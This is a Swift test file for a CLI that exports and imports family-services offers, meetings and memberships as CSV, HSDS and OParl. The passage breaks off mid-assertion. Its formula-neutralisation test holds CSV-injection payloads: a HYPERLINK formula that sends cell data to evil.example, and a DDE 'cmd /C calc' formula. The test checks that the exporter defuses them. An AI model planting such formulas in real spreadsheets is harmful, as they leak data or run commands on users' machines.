import Foundation
import KetteClient
import KetteProtocol
import KetteTestSupport
import XCTest

/// Exports (CSV, HSDS, OParl) and the offer import through the real `kette` binary: the files open
/// in a German spreadsheet, validate against the official schemas, read back unchanged, and bad
/// input is refused whole, writing nothing.
final class ExchangeTests: KetteCLITestCase {
    private let german: [String: String?] = ["LANG": "de_DE.UTF-8"]
    private let bom: [UInt8] = [0xEF, 0xBB, 0xBF]
    private let awkwardDescription = "Spielerische Sprachförderung; mit \"Liedern\" und Reimen.\nZweite Zeile: Öffnungszeiten nach Absprache."

    // MARK: Fixture

    private struct County {
        var fixture: Fixture
        var offers: [String] = []
        var deletedOffer = ""
        var meeting = ""
        var deletedMeeting = ""
        var deletedBody = ""
        var seat = ""
        var deletedSeat = ""
        var regenbogen = ""
    }

    /// A small county: offers from full to minimal (and a deleted one), a meeting with its minutes,
    /// a deleted meeting, and seats of organizations in bodies (one deleted, with a deleted body).
    private func makeCounty() throws -> County {
        var county = County(fixture: makeFixture())
        county.regenbogen = ok("org", "add", "Familienzentrum Regenbogen", "--sector", "free-providers", "--kind", "Familienzentrum",
                               "--contact", "Frau Yılmaz")
        county.offers.append(addOffer(title: "Sprachförderung in der Kita", extra: [
            "--phase", "preschool,early-childhood", "--category", "promotion", "--sector", "youth-welfare",
            "--provider", "jugendamt süd", "--description", awkwardDescription, "--status", "planned",
            "--contact", "Frau Öztürk, 0521 123", "--location", "Familienzentrum Regenbogen, Lindenweg 3", "--cost", "free",
            "--languages", "de, TR,ar", "--target-groups", "Eltern,Alleinerziehende", "--schedule", "dienstags 9–11 Uhr",
            "--accessibility", "barrierefrei", "--start", "2026-03-01", "--end", "2026-12-31"]))
        county.offers.append(addOffer(title: "Übergang Schule–Beruf begleiten", district: "südstadt", extra: [
            "--phase", "transition,adolescence", "--category", "counselling", "--provider", "familienzentrum regenbogen",
            "--location", "Familienzentrum Regenbogen, Lindenweg 3", "--cost", "paid", "--status", "ended"]))
        county.offers.append(addOffer(title: "Hebammensprechstunde", extra: ["--location", "familienzentrum regenbogen, lindenweg 3"]))
        county.deletedOffer = addOffer(title: "Gelöschtes Angebot", extra: ["--description", "soll nirgends auftauchen"])
        ok("offer", "delete", county.deletedOffer, "--yes")

        county.meeting = ok("meeting", "add", "--body", "steuerungsgruppe", "--date", "2026-03-14", "--time", "09:30",
                            "--place", "Rathaus, Raum 2", "--attendee", "Ali Öztürk; Jugendamt; Leitung", "--attendee", "Petra Müller",
                            "--minutes", "Protokoll mit Namen: Ali Öztürk berichtet.")
        ok("meeting", "agenda", county.meeting, "Lückenanalyse Frühe Hilfen", "--notes", "intern")
        ok("meeting", "agenda", county.meeting, "Verschiedenes")
        ok("meeting", "decide", county.meeting, "Die Angebotsliste wird jährlich aktualisiert.")
        ok("task", "add", county.meeting, "Angebotsliste aktualisieren", "--owner", "Petra Müller", "--due", "2026-04-01")
        county.deletedMeeting = ok("meeting", "add", "--body", "steuerungsgruppe", "--date", "2026-07-02", "--attendee", "Jörg Weiß")
        ok("meeting", "delete", county.deletedMeeting, "--yes")

        // Seats in bodies and deleting a body have no command yet: written through the library,
        // as a sync would bring them.
        let store = try LocalStore(directory: runner.home.path)
        let network = try store.addBody(name: "Netzwerk Frühe Hilfen", level: "network", district: "nordstadt", language: .english)
        county.deletedBody = try store.addBody(name: "Aufgelöste AG", level: "working", district: nil, language: .english)
        county.seat = store.newID()
        county.deletedSeat = store.newID()
        let fixture = county.fixture
        let regenbogen = county.regenbogen
        let seat = county.seat
        let deletedSeat = county.deletedSeat
        let deletedBody = county.deletedBody
        try store.record("member add") { change in
            try change.create(.member, seat, [("body", .string(fixture.steering)), ("organization", .string(fixture.jugendamt)),
                                              ("role", .string("Vorsitz"))])
            try change.create(.member, store.newID(), [("body", .string(network)), ("organization", .string(regenbogen))])
            try change.create(.member, deletedSeat, [("body", .string(deletedBody)), ("organization", .string(regenbogen))])
            try change.delete(.member, deletedSeat)
            try change.delete(.body, deletedBody)
        }
        return county
    }

    // MARK: Helpers

    func directory(_ name: String) -> URL { runner.root.appendingPathComponent(name, isDirectory: true) }

    private func read(_ directory: URL, _ file: String) throws -> Data {
        try Data(contentsOf: directory.appendingPathComponent(file))
    }

    /// A file's text without its byte-order mark, asserting the mark is there.
    func spreadsheetText(_ directory: URL, _ file: String, file testFile: StaticString = #filePath, line: UInt = #line) throws -> String {
        let data = try read(directory, file)
        XCTAssertEqual(Array(data.prefix(3)), bom, "\(file) must start with a UTF-8 byte-order mark", file: testFile, line: line)
        return try XCTUnwrap(String(data: data.dropFirst(3), encoding: .utf8), "\(file) is not UTF-8", file: testFile, line: line)
    }

    private func writeFile(_ name: String, _ text: String, bom withBOM: Bool = true) throws -> String {
        let url = runner.root.appendingPathComponent(name)
        try Data((withBOM ? bom : []) + Array(text.utf8)).write(to: url)
        return url.path
    }

    /// The official schemas: `$KETTE_STANDARDS` when set, else the copy in `Tests/Standards`.
    func standardsDirectory() throws -> String {
        if let override = ProcessInfo.processInfo.environment["KETTE_STANDARDS"], !override.isEmpty { return override }
        let standards = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .appendingPathComponent("Standards").path
        guard FileManager.default.fileExists(atPath: standards + "/hsds-3.0/service.json"),
              FileManager.default.fileExists(atPath: standards + "/oparl-1.1/schema/Meeting.json") else {
            XCTFail("the official schemas are not in \(standards) (they are part of the repository); set KETTE_STANDARDS")
            throw CocoaError(.fileNoSuchFile)
        }
        return standards
    }

    /// Runs Fixtures/validate_exports.py (jsonschema against the official schemas); returns its exit code and output.
    func validate(_ standard: String, _ directory: URL) throws -> (code: Int32, output: String) {
        let script = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("Fixtures/validate_exports.py")
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = ["python3", script.path, standard, directory.path, try standardsDirectory()]
        let output = runner.root.appendingPathComponent("validate-\(UUID().uuidString.prefix(6)).out")
        _ = FileManager.default.createFile(atPath: output.path, contents: nil)
        let handle = try FileHandle(forWritingTo: output)
        defer { try? handle.close() }
        process.standardOutput = handle
        process.standardError = handle
        try process.run()
        process.waitUntilExit()
        return (process.terminationStatus, (try? String(contentsOf: output, encoding: .utf8)) ?? "")
    }

    func assertValid(_ standard: String, _ directory: URL, file: StaticString = #filePath, line: UInt = #line) throws {
        let result = try validate(standard, directory)
        XCTAssertEqual(result.code, 0, "the \(standard) export does not validate:\n\(result.output)", file: file, line: line)
    }

    func jsonFile(_ directory: URL, _ file: String) throws -> Any {
        try JSONSerialization.jsonObject(with: try read(directory, file))
    }

    func allText(_ directory: URL) throws -> String {
        try FileManager.default.contentsOfDirectory(atPath: directory.path).sorted()
            .map { String(decoding: try read(directory, $0), as: UTF8.self) }.joined(separator: "\n")
    }

    // MARK: CSV export

    func testCSVExportOpensInAGermanSpreadsheet() throws {
        let county = try makeCounty()
        let out = directory("csv")
        let output = ok(["export", "csv", "--out", out.path], env: german)
        XCTAssertTrue(output.contains("offers.csv") && output.contains("tasks.csv"), output)
        XCTAssertEqual(try FileManager.default.contentsOfDirectory(atPath: out.path).sorted(),
                       ["agreements.csv", "contacts.csv", "goals.csv", "measures.csv", "meetings.csv", "members.csv", "needs.csv", "offers.csv",
                        "organizations.csv", "tasks.csv"])

        let offers = try spreadsheetText(out, "offers.csv")
        XCTAssertTrue(offers.hasPrefix("ID;Titel;Sozialraum;Lebensphasen;Kategorie;Bereich;Träger;Status;Kosten;Sprachen;Zielgruppen;"
                                       + "Ort;Zeiten;Ansprechperson;Barrierefreiheit;Beginn;Ende;Beschreibung\r\n"), offers)
        XCTAssertFalse(offers.replacingOccurrences(of: "\r\n", with: "").contains("\r"), "line ends are CRLF")
        let rows = try CSV.read(try read(out, "offers.csv"))
        XCTAssertEqual(rows.count, 4, "header and the three offers that are not deleted")
        let full = try XCTUnwrap(rows.first { $0.cells[1] == "Sprachförderung in der Kita" }?.cells)
        XCTAssertEqual(full, [county.offers[0], "Sprachförderung in der Kita", "Nordstadt", "Frühe Kindheit, Kita-Alter", "Förderung",
                              "Kinder- und Jugendhilfe", "Jugendamt Süd", "geplant", "kostenfrei", "de, tr, ar", "Eltern, Alleinerziehende",
                              "Familienzentrum Regenbogen, Lindenweg 3", "dienstags 9–11 Uhr", "Frau Öztürk, 0521 123", "barrierefrei",
                              "2026-03-01", "2026-12-31", awkwardDescription])
        // The raw line shows the quoting a spreadsheet expects: the cell with ';', quotes and a line break is quoted, quotes doubled.
        XCTAssertTrue(offers.contains(";\"Spielerische Sprachförderung; mit \"\"Liedern\"\" und Reimen.\nZweite Zeile"), offers)
        XCTAssertFalse(offers.contains("Gelöschtes Angebot"), "deleted offers are not exported")

        let meetings = try spreadsheetText(out, "meetings.csv")
        XCTAssertTrue(meetings.hasPrefix("ID;Gremium;Datum;Uhrzeit;Ort;Teilnehmende;Tagesordnung;Beschlüsse;Angebote;Protokoll\r\n"), meetings)
        XCTAssertTrue(meetings.contains("Steuerungsgruppe Präventionskette;2026-03-14;09:30;Rathaus, Raum 2;2;"
                                        + "\"1. Lückenanalyse Frühe Hilfen\n2. Verschiedenes\";"), meetings)
        XCTAssertFalse(meetings.contains("Petra Müller") || meetings.contains(county.deletedMeeting), "no attendee names, no deleted meetings")
        let tasks = try spreadsheetText(out, "tasks.csv")
        XCTAssertTrue(tasks.contains("Angebotsliste aktualisieren;Petra Müller;2026-04-01;offen;\(county.meeting);Steuerungsgruppe Präventionskette;2026-03-14"), tasks)
        let organizations = try spreadsheetText(out, "organizations.csv")
        XCTAssertTrue(organizations.contains("Familienzentrum Regenbogen;Familienzentrum;Freie Träger;Frau Yılmaz\r\n"), organizations)

        // In English the same file speaks JSON keys and slugs.
        let english = directory("csv-en")
        ok("export", "csv", "--out", english.path)
        let englishOffers = try spreadsheetText(english, "offers.csv")
        XCTAssertTrue(englishOffers.hasPrefix("id;title;district;phases;category;sector;provider;status;cost;languages;targetGroups;"), englishOffers)
        XCTAssertTrue(englishOffers.contains(";Nordstadt;early-childhood, preschool;promotion;youth-welfare;Jugendamt Süd;planned;free;"), englishOffers)
    }

    // MARK: CSV round trip

    func testCSVRoundTripsThroughImportUnchangedInBothLanguages() throws {
        _ = try makeCounty()
        for (name, env) in [("de", german), ("en", [String: String?]())] {
            let first = directory("first-\(name)")
            ok(["export", "csv", "--out", first.path], env: env)

            // A fresh store with the same districts and organizations (other ids for some).
            let other = runner.root.appendingPathComponent("other-\(name)").path
            var otherEnv = env
            otherEnv["KETTE_HOME"] = other
            ok(["init"], env: otherEnv)
            ok(["district", "add", "Nordstadt", "--id", "nordstadt"], env: otherEnv)
            ok(["district", "add", "Südstadt"], env: otherEnv)
            ok(["org", "add", "Jugendamt Süd"], env: otherEnv)
            ok(["org", "add", "Familienzentrum Regenbogen"], env: otherEnv)
            let imported = ok(["import", "offers", first.appendingPathComponent("offers.csv").path], env: otherEnv)
            XCTAssertTrue(imported.contains(name == "de" ? "3 Angebote" : "3 offers"), imported)

            let second = directory("second-\(name)")
            ok(["export", "csv", "--out", second.path], env: otherEnv)
            let before = try read(first, "offers.csv")
            let after = try read(second, "offers.csv")
            XCTAssertEqual(after, before, "offers.csv (\(name)) changed on its way through import:\n"
                           + String(decoding: before, as: UTF8.self) + "\n---\n" + String(decoding: after, as: UTF8.self))

            // Importing the same file again finds every offer by its id and changes nothing.
            let stored = try storeSnapshot(path: other + "/kette.db")
            let again = ok(["import", "offers", first.appendingPathComponent("offers.csv").path], env: otherEnv)
            XCTAssertTrue(again.contains(name == "de" ? "0 neu, 0 geändert (0 Felder), 3 unverändert" : "0 new, 0 updated (0 fields), 3 unchanged"), again)
            XCTAssertEqual(try storeSnapshot(path: other + "/kette.db"), stored, "a re-import of an unchanged export writes nothing")
        }
    }

    // MARK: Spreadsheet formulas

    func testFormulasAreNeutralizedInEveryExportedCellAndImportTakesTheMarkAwayAgain() throws {
        _ = makeFixture()
        let hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A2;\"x\")"
        let command = "+SUM(1+1)*cmd|' /C calc'!A0"
        ok("org", "add", hyperlink)
        ok("org", "add", command)
        let offer = addOffer(title: hyperlink, extra: ["--provider", command, "--description", "@SUM(A1)", "--contact", "-2+3",
                                                      "--location", "'=schon markiert", "--schedule", "-12"])
        let out = directory("formulas")
        ok(["export", "csv", "--out", out.path], env: german)

        // As the file stands: no cell of any file starts like a formula.
        let literal = CSVDialect(separator: ";", lineEnding: .crlf, byteOrderMark: true, neutralizesFormulas: false)
        for file in ["offers.csv", "organizations.csv", "meetings.csv", "tasks.csv"] {
            for row in try CSV.read(try read(out, file), dialect: literal) {
                for cell in row.cells {
                    XCTAssertFalse(cell.first.map { "=+-@\t\r".contains($0) } == true && cell != "-12", "\(file) row \(row.number): \(cell)")
                }
            }
        }
        let organizations = try spreadsheetText(out, "organizations.csv")
        XCTAssertTrue(organizations.contains(";\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2;\"\"x\"\")\";"), organizations)
        XCTAssertTrue(organizations.contains(";'+SUM(1+1)*cmd|' /C calc'!A0;"), organizations)
        let raw = try XCTUnwrap(try CSV.read(try read(out, "offers.csv"), dialect: literal).first { $0.cells[0] == offer }?.cells)
        XCTAssertEqual(raw[1], "'" + hyperlink)
        XCTAssertEqual(raw[6], "'" + command, "the provider, written by name")
        XCTAssertEqual(raw[11], "''=schon markiert", "text that starts with the mark itself gets one more")
        XCTAssertEqual(raw[12], "-12", "a plain number stays a number")
        XCTAssertEqual(raw[13], "'-2+3")
        XCTAssertEqual(raw[17], "'@SUM(A1)")

        // Into a fresh store that knows the same provider: every value arrives exactly as typed.
        var other = german
        other["KETTE_HOME"] = runner.root.appendingPathComponent("other").path
        ok(["init"], env: other)
        ok(["district", "add", "Nordstadt", "--id", "nordstadt"], env: other)
        ok(["org", "add", command], env: other)
        ok(["import", "offers", out.appendingPathComponent("offers.csv").path], env: other)
        let imported = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(ok(["offer", "show", offer, "--json"], env: other).utf8)) as? [String: Any])
        XCTAssertEqual(imported["title"] as? String, hyperlink)
        XCTAssertEqual(imported["providerName"] as? String, command)
        XCTAssertEqual(imported["description"] as? String, "@SUM(A1)")
        XCTAssertEqual(imported["contact"] as? String, "-2+3")
        XCTAssertEqual(imported["location"] as? String, "'=schon markiert")
        XCTAssertEqual(imported["schedule"] as? String, "-12")
        let again = directory("formulas-again")
        ok(["export", "csv", "--out", again.path], env: other)
        XCTAssertEqual(try read(again, "offers.csv"), try read(out, "offers.csv"), "export → import → export gives the same file")
    }

    func testImportAcceptsEnglishKeysAnyCaseLabelsAndFilesWithoutMarkOrCRLF() throws {
        let fixture = makeFixture()
        ok("org", "add", "Familienzentrum Regenbogen")
        let file = try writeFile("angebote.csv", """
            TITLE;District;phases;Category;Target groups;languages;PROVIDER;cost;status;start;Beschreibung;
            Elterncafé;südstadt;Kita-Alter, primary,Frühe Kindheit;Beratung;Eltern, Großeltern;DE,tr;familienzentrum regenbogen;kostenfrei;;2026-05-04;"Treff; mit Kaffee";
            Jugendtreff;\(fixture.nordstadt);adolescence;leisure;;;;;ended;;;
            ;;;;;;;;;;;


            """, bom: false)
        let output = ok("import", "offers", file)
        XCTAssertTrue(output.contains("Imported 2 offers in one change set") && output.contains("Empty rows skipped: 2."), output)
        let offers = try jsonArray("offer", "list", "--json")
        let cafe = try XCTUnwrap(offers.first { $0["title"] as? String == "Elterncafé" })
        XCTAssertEqual(cafe["district"] as? String, fixture.suedstadt)
        XCTAssertEqual(cafe["phases"] as? [String], ["early-childhood", "preschool", "primary"], "phases in the order of growing up")
        XCTAssertEqual(cafe["category"] as? String, "counselling")
        XCTAssertEqual(cafe["targetGroups"] as? [String], ["Eltern", "Großeltern"])
        XCTAssertEqual(cafe["languages"] as? [String], ["de", "tr"])
        XCTAssertEqual(cafe["providerName"] as? String, "Familienzentrum Regenbogen")
        XCTAssertEqual(cafe["cost"] as? String, "free")
        XCTAssertEqual(cafe["status"] as? String, "active", "as with `offer add`, an offer without status is active")
        XCTAssertEqual(cafe["start"] as? String, "2026-05-04")
        XCTAssertEqual(cafe["description"] as? String, "Treff; mit Kaffee")
        XCTAssertTrue(isUUID(cafe["id"] as? String ?? ""))
        let treff = try XCTUnwrap(offers.first { $0["title"] as? String == "Jugendtreff" })
        XCTAssertEqual(treff["status"] as? String, "ended")
        XCTAssertEqual(treff["languages"] as? [String], [])
        XCTAssertEqual(ok("search", "Kaffee").contains("Elterncafé"), true, "imported offers are searchable")
    }

    // MARK: Import refusals

    func testImportWithErrorsListsEveryBadRowAndWritesNothing() throws {
        _ = makeFixture()
        addOffer(title: "Schon da")
        let file = try writeFile("fehler.csv", """
            Titel;Sozialraum;Lebensphasen;Kategorie;Beginn;Träger\r
            Gutes Angebot;Nordstadt;Kita-Alter;Bildung;2026-01-01;Jugendamt Süd\r
            ;Nordstadt;Jugend;;;\r
            Kurs;Nordstat;Baby;Spaß;2026-02-30;Niemand\r
            Noch ein Kurs;Südstadt;Kita-Alter, Teenager;;;\r
            ;;;;;\r
            Letzter Kurs;Nordstadt;;;;;zu viel\r

            """)
        try assertRejected(["import", "offers", file], mentions: [
            "4 of 5 rows have problems", "nothing was imported",
            "row 3: Titel is missing or empty",
            "row 4: no district 'Nordstat' found", "row 4: unknown Lebensphasen 'Baby'", "row 4: unknown Kategorie 'Spaß'",
            "row 4: invalid Beginn '2026-02-30'", "row 4: no organization 'Niemand' found",
            "row 5: unknown Lebensphasen 'Teenager'. Accepted: pregnancy, early-childhood",
            "row 7: 1 more cell(s) than the header has columns",
        ])
        XCTAssertFalse(runner.run(["import", "offers", file]).stderr.contains("row 2"), "the good row is not listed")
        try assertRejected(["import", "offers", file, "--dry-run"], mentions: ["row 3", "row 4", "row 5", "row 7"])
        try assertRejected(["import", "offers", file], mentions: [
            "Import abgelehnt, nichts wurde importiert: 4 von 5 Zeilen", "Zeile 3: Titel fehlt oder ist leer",
            "Zeile 4: Unbekannter Wert „Baby“ für Lebensphasen. Erlaubt: schwangerschaft (Schwangerschaft und Geburt), fruehe-kindheit (Frühe Kindheit)",
        ], env: german)

        // The same problem in many rows is one line naming them all.
        var lines = ["title;district"]
        for index in 2...9 { lines.append(index == 6 ? "Kurs \(index);nordstadt" : "Kurs \(index);Atlantis") }
        let many = try writeFile("viele.csv", lines.joined(separator: "\r\n"))
        try assertRejected(["import", "offers", many], mentions: ["7 of 8 rows", "rows 2–5, 7–9: no district 'Atlantis' found"])
    }

    func testImportRefusesWrongColumnsAndUnreadableFiles() throws {
        _ = makeFixture()
        let accepted = ["title", "district", "phases", "targetGroups"]
        try assertRejected(["import", "offers", try writeFile("a.csv", "Titel;Sozialraum;Farbe\r\nKurs;Nordstadt;blau\r\n")],
                           mentions: ["unknown columns: 'Farbe'"] + accepted)
        try assertRejected(["import", "offers", try writeFile("b.csv", "Titel;Lebensphasen\r\nKurs;Jugend\r\n")],
                           mentions: ["missing required columns: district"])
        try assertRejected(["import", "offers", try writeFile("c.csv", "title;Titel;district\r\n")],
                           mentions: ["columns given more than once: title + Titel"])
        try assertRejected(["import", "offers", try writeFile("e.csv", "Titel;Sozialraum\r\n\"Kurs;Nordstadt\r\n")],
                           mentions: ["the quote opened in row 2, column 1 is never closed"])
        let windows1252 = runner.root.appendingPathComponent("f.csv")
        try Data(Array("Titel;Sozialraum\r\nKurs;S".utf8) + [0xFC] + Array("dstadt\r\n".utf8)).write(to: windows1252)
        try assertRejected(["import", "offers", windows1252.path, "--encoding", "utf-8"],
                           mentions: ["row 2, column 2 is not UTF-8", "--encoding windows-1252", "CSV UTF-8"])
        try assertRejected(["import", "offers", windows1252.path, "--encoding", "ebcdic"], mentions: ["encoding", "'ebcdic'", "windows-1252"])
        try assertRejected(["import", "offers", windows1252.path, "--on-duplicate", "merge"], mentions: ["on-duplicate", "'merge'", "skip", "update"])
        try assertRejected(["import", "offers", windows1252.path, "--match", "title,farbe"], mentions: ["match", "'title,farbe'"])
        try assertRejected(["import", "offers", windows1252.path, "--match", "title,provider"], mentions: ["--match", "provider"])
        try assertRejected(["import", "offers", try writeFile("g.csv", "", bom: true)], mentions: ["the file is empty"])
        try assertRejected(["import", "offers", runner.root.appendingPathComponent("missing.csv").path], mentions: ["missing.csv"])
        try assertRejected(["import", "offers"], mentions: ["FILE"])
        try assertRejected(["import", "offers", try writeFile("h.csv", "Titel;Farbe\r\n")],
                           mentions: ["Die Spalten passen nicht", "unbekannte Spalten: „Farbe“", "fehlende Pflichtspalten: Sozialraum"], env: german)
    }

    func testDryRunChecksEverythingAndWritesNothing() throws {
        _ = makeFixture()
        let file = try writeFile("ok.csv", "Titel;Sozialraum;Lebensphasen\r\nKurs A;Nordstadt;Jugend\r\nKurs B;Südstadt;Kita-Alter\r\n")
        let statusBefore = ok("status", "--json")
        let snapshotBefore = try storeSnapshot()
        XCTAssertEqual(ok(["import", "offers", file, "--dry-run"], env: german), "Probelauf: 2 Angebote würden importiert; nichts wurde geschrieben.")
        XCTAssertEqual(ok("status", "--json"), statusBefore)
        XCTAssertEqual(try storeSnapshot(), snapshotBefore)
        let pending = try pendingChangeSets()
        ok("import", "offers", file)
        XCTAssertEqual(try pendingChangeSets(), pending + 1, "the whole import is one change set")
        XCTAssertEqual(try status()["offers"] as? Int, 2)
    }

    func testThousandsOfRowsAreOneChangeSet() throws {
        _ = makeFixture()
        var lines = ["Titel;Sozialraum;Lebensphasen;Kategorie;Träger;Sprachen;Beschreibung"]
        let phases = ["Frühe Kindheit", "Kita-Alter, Grundschulalter", "Jugend", "transition"]
        for index in 1...3_000 {
            lines.append("Angebot \(index);\(index % 2 == 0 ? "Nordstadt" : "Südstadt");\"\(phases[index % 4])\";Bildung;Jugendamt Süd;de, tr;"
                         + "\"Beschreibung \(index); mit Umlauten äöü\"")
        }
        let file = try writeFile("gross.csv", lines.joined(separator: "\r\n") + "\r\n")
        let pending = try pendingChangeSets()
        let started = Date()
        XCTAssertEqual(ok("import", "offers", file), "Imported 3,000 offers in one change set.")
        let seconds = Date().timeIntervalSince(started)
        XCTAssertLessThan(seconds, 20, "3,000 rows took \(seconds) s even in a debug build")
        XCTAssertEqual(try pendingChangeSets(), pending + 1)
        XCTAssertEqual(try status()["offers"] as? Int, 3_000)
    }

    // MARK: Export refusals

    func testBadExportArgumentsExitOneAndWriteNothing() throws {
        _ = try makeCounty()
        let notADirectory = runner.root.appendingPathComponent("plain-file")
        try Data("x".utf8).write(to: notADirectory)
        let before = try FileManager.default.contentsOfDirectory(atPath: runner.root.path).filter { !$0.hasPrefix("run-") }.sorted()
        try assertRejected(["export", "csv"], mentions: ["--out DIR is missing"])
        try assertRejected(["export", "hsds", "--out", ""], mentions: ["--out DIR is missing"])
        try assertRejected(["export", "csv", "--out", notADirectory.path], mentions: ["plain-file is not a directory"])
        try assertRejected(["export", "oparl", "--out", notADirectory.path + "/sub"], mentions: ["plain-file is not a directory"])
        try assertRejected(["export", "xml", "--out", directory("x").path], mentions: ["unknown subcommand 'xml' of 'export'", "csv", "hsds", "oparl"])
        try assertRejected(["export", "oparl", "--out", directory("y").path, "--base-url", "kreis.example/oparl"],
                           mentions: ["invalid --base-url 'kreis.example/oparl'"])
        try assertRejected(["export", "csv", "--out", "/proc/kette-export/neu"], mentions: ["cannot write to /proc", "Nothing was exported"])
        try assertRejected(["export", "csv"], mentions: ["--out DIR fehlt oder ist leer"], env: german)
        try assertRejected(["export", "hsds", "--out", notADirectory.path], mentions: ["ist kein Verzeichnis"], env: german)
        let after = try FileManager.default.contentsOfDirectory(atPath: runner.root.path).filter { !$0.hasPrefix("run-") }.sorted()
        XCTAssertEqual(after, before, "a refused export left files behind")
        XCTAssertEqual(try Data(contentsOf: notADirectory), Data("x".utf8))
    }

    // MARK: HSDS

    func testHSDSExportValidatesAgainstTheOfficialSchemas() throws {
        let county = try makeCounty()
        let out = directory("hsds")
        ok("export", "hsds", "--out", out.path)
        try assertValid("hsds", out)

        let services = try XCTUnwrap(try jsonFile(out, "services.json") as? [[String: Any]])
        XCTAssertEqual(Set(services.compactMap { $0["id"] as? String }), Set(county.offers), "services are the offers that are not deleted, with their ids")
        let full = try XCTUnwrap(services.first { $0["id"] as? String == county.offers[0] })
        XCTAssertEqual(full["name"] as? String, "Sprachförderung in der Kita")
        XCTAssertEqual(full["status"] as? String, "inactive", "planned offers are not yet active")
        XCTAssertEqual(full["organization_id"] as? String, county.fixture.jugendamt)
        XCTAssertEqual(full["description"] as? String, awkwardDescription)
        XCTAssertEqual(services.first { $0["id"] as? String == county.offers[1] }?["status"] as? String, "defunct")

        // Life phases and categories are taxonomy terms attached through attributes.
        let terms = try XCTUnwrap(try jsonFile(out, "taxonomy_terms.json") as? [[String: Any]])
        let preschool = try XCTUnwrap(terms.first { $0["code"] as? String == "preschool" })
        XCTAssertEqual(preschool["name"] as? String, "Kita-Alter")
        let attributes = try XCTUnwrap(try jsonFile(out, "attributes.json") as? [[String: Any]])
        let linked = attributes.filter { $0["link_id"] as? String == county.offers[0] }.compactMap { $0["taxonomy_term_id"] as? String }
        let codes = Set(terms.filter { linked.contains($0["id"] as? String ?? "") }.compactMap { $0["code"] as? String })
        XCTAssertEqual(codes, ["early-childhood", "preschool", "promotion", "youth-welfare"])

        // One place in one district is one location, whoever offers something there (the same
        // address text in another district stays another place).
        let locations = try XCTUnwrap(try jsonFile(out, "locations.json") as? [[String: Any]])
        XCTAssertEqual(locations.count, 2)
        let atLocation = try XCTUnwrap(try jsonFile(out, "service_at_location.json") as? [[String: String]])
        let locationOf = Dictionary(uniqueKeysWithValues: atLocation.map { ($0["service_id"]!, $0["location_id"]!) })
        XCTAssertEqual(locationOf[county.offers[0]], locationOf[county.offers[2]])
        XCTAssertNotEqual(locationOf[county.offers[0]], locationOf[county.offers[1]])
        XCTAssertFalse(try allText(out).contains("Gelöschtes Angebot"))

        // Ids are stable: a second export is byte for byte the same.
        let again = directory("hsds-again")
        ok("export", "hsds", "--out", again.path)
        for name in try FileManager.default.contentsOfDirectory(atPath: out.path) {
            XCTAssertEqual(try read(again, name), try read(out, name), "\(name) changed between two exports of the same store")
        }
    }

    // MARK: OParl

    func testOParlExportValidatesAndKeepsPeoplePrivateUnlessAsked() throws {
        let county = try makeCounty()
        let out = directory("oparl")
        ok("export", "oparl", "--out", out.path, "--base-url", "https://kreis.example/oparl/", "--body-name", "Präventionskette Musterkreis")
        try assertValid("oparl", out)

        let body = try XCTUnwrap(try jsonFile(out, "body.json") as? [String: Any])
        XCTAssertEqual(body["name"] as? String, "Präventionskette Musterkreis")
        XCTAssertEqual(body["meeting"] as? String, "https://kreis.example/oparl/meetings.json")

        let organizations = try XCTUnwrap((try jsonFile(out, "organizations.json") as? [String: Any])?["data"] as? [[String: Any]])
        let steering = try XCTUnwrap(organizations.first { $0["id"] as? String == "https://kreis.example/oparl/organization/\(county.fixture.steering)" })
        XCTAssertEqual(steering["name"] as? String, "Steuerungsgruppe Präventionskette")
        XCTAssertEqual(steering["organizationType"] as? String, "Gremium")
        XCTAssertEqual(steering["classification"] as? String, "Steuerungsgruppe")
        XCTAssertEqual(steering["membership"] as? [String], ["https://kreis.example/oparl/membership/\(county.seat)"])
        let deletedBody = try XCTUnwrap(organizations.first { ($0["id"] as? String)?.hasSuffix(county.deletedBody) == true })
        XCTAssertEqual(deletedBody["deleted"] as? Bool, true)
        XCTAssertNil(deletedBody["name"], "a deleted object carries only its id, type and times")
        XCTAssertEqual(organizations.first { ($0["id"] as? String)?.hasSuffix(county.regenbogen) == true }?["organizationType"] as? String,
                       "Institution", "organizations with a seat are exported for onBehalfOf")

        let memberships = try XCTUnwrap((try jsonFile(out, "memberships.json") as? [String: Any])?["data"] as? [[String: Any]])
        let seat = try XCTUnwrap(memberships.first { ($0["id"] as? String)?.hasSuffix(county.seat) == true })
        XCTAssertEqual(seat["onBehalfOf"] as? String, "https://kreis.example/oparl/organization/\(county.fixture.jugendamt)")
        XCTAssertEqual(seat["role"] as? String, "Vorsitz")
        XCTAssertEqual(memberships.first { ($0["id"] as? String)?.hasSuffix(county.deletedSeat) == true }?["deleted"] as? Bool, true)

        let meetings = try XCTUnwrap((try jsonFile(out, "meetings.json") as? [String: Any])?["data"] as? [[String: Any]])
        let meeting = try XCTUnwrap(meetings.first { ($0["id"] as? String)?.hasSuffix(county.meeting) == true })
        XCTAssertEqual(meeting["start"] as? String, "2026-03-14T09:30:00+01:00")
        XCTAssertEqual(meeting["name"] as? String, "Steuerungsgruppe Präventionskette, Sitzung am 14.03.2026")
        XCTAssertEqual((meeting["agendaItem"] as? [[String: Any]])?.compactMap { $0["name"] as? String },
                       ["Lückenanalyse Frühe Hilfen", "Verschiedenes"])
        XCTAssertNil(meeting["participant"], "no people without --public-people")
        let deleted = try XCTUnwrap(meetings.first { ($0["id"] as? String)?.hasSuffix(county.deletedMeeting) == true })
        XCTAssertEqual(deleted["deleted"] as? Bool, true)

        // Without --public-people no attendee name leaves the store, minutes and tasks included.
        XCTAssertEqual(((try jsonFile(out, "persons.json") as? [String: Any])?["data"] as? [Any])?.count, 0)
        let everything = try allText(out)
        for name in ["Öztürk", "Petra Müller", "Jörg Weiß"] { XCTAssertFalse(everything.contains(name), "\(name) was exported") }

        let published = directory("oparl-public")
        ok("export", "oparl", "--out", published.path, "--public-people")
        try assertValid("oparl", published)
        let persons = try XCTUnwrap((try jsonFile(published, "persons.json") as? [String: Any])?["data"] as? [[String: Any]])
        XCTAssertEqual(Set(persons.compactMap { $0["name"] as? String }), ["Ali Öztürk", "Petra Müller"])
        XCTAssertEqual(persons.filter { $0["deleted"] as? Bool == true }.count, 1,
